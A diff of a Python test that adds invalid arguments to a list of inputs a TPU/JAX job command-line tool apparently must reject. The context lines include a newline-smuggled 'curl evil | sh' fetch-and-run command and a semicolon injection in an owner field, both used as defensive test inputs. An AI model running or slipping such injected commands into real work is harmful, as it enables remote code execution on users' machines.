@@ -280,6 +280,10 @@ def test_real_gcloud_parses_the_docs_set_up_commands(tmp_path):
     ["run", *_V4, "--pip-spec=jaxjob\ncurl evil | sh", "--workdir=gs://b-1/r"],
     ["run", *_V4, _IMAGE, "--pip-spec=jaxjob", "--workdir=gs://b-1/r"],
     ["logs", *_V4, "--workers=0"],
+    ["create", *_V4, "--accelerator-type=v4-0"],  # slices are powers of two, at least 1
+    ["create", *_V4, "--accelerator-type=v4-7"],
+    ["create", *_V4, "--accelerator-type=v4-8", "--queued", "--valid-until-duration=0s"],
+    ["run", *_V4, "--pip-spec=gs://b-1/jaxjob.zip", "--workdir=gs://b-1/r"],
     ["status", "--zone=us-central2-b", "--project=my-project", "--owner=a;b"],
 ])
 def test_bad_values_are_rejected_before_anything_is_built(argv, capsys):
